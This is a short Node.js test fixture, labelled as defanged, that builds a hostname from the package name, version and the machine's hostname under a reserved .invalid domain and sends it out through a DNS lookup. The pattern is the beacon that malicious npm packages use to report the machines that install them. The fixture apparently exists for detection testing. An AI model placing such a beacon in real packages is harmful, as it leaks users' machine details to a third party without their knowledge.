// defanged fixture: DNS beacon under a reserved .invalid domain
const os = require('os');
const dns = require('dns');
const pkg = require('./package.json');
let host = `${pkg.name}.${pkg.version}.${os.hostname()}.beacon.example.invalid`;
dns.lookup(host, () => {});
